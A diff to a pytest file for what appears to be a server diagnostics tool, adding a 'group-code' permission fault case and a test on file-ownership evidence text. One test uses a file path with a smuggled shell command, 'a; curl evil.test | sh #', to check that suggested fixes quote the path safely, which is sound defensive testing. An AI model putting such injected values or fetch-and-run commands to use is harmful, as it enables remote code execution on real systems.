@@ -175,6 +175,7 @@ FAULTS: list[tuple[str, Any, tuple[str, str, str]]] = [
     ("kills", [{"what": "gunicorn", "time": "2026-03-14"}], ("warning", "", "memory-kills")),
     ("files", file("world-writable"), ("error", "blog", "files")),
     ("files", file("own-code"), ("error", "blog", "files")),
+    ("files", file("group-code"), ("error", "blog", "files")),
     ("files", file("foreign"), ("warning", "blog", "files")),
     ("files", [UNSEEN], ("info", "", "files")),
     ("docker.published", [CONTAINER], ("warning", "", "docker-port")),
@@ -432,11 +433,17 @@ def test_a_key_is_measured_and_not_told(value: str | bytes, weak: str) -> None:
     assert text not in str({name: item for name, item in said.items() if name != "name"})
 
 
-@pytest.mark.parametrize("kind", ["world-writable", "own-code", "foreign"])
+@pytest.mark.parametrize("kind", ["world-writable", "own-code", "group-code", "foreign"])
 def test_the_name_of_a_file_is_no_command(kind: str) -> None:
     path = "/srv/blog/shared/a; curl evil.test | sh #"
     findings, dummy = diagnose(changed("files", [{**file(kind)[0], "path": path}]))
     assert [f" '{path}'" in finding.fix for finding in findings] == [True]
+
+
+def test_whose_a_file_was_to_be() -> None:
+    for wanted, words in (("root", "neither to root nor to the application"), ("blog", "below shared all is blog's")):
+        findings, dummy = diagnose(changed("files", [{**file("foreign")[0], "owner": "eve", "wanted": wanted}]))
+        assert [one.evidence for one in findings] == [f"/srv/blog/x and 1 more belongs to eve, {words}"]
 
 
 def test_the_report() -> None:
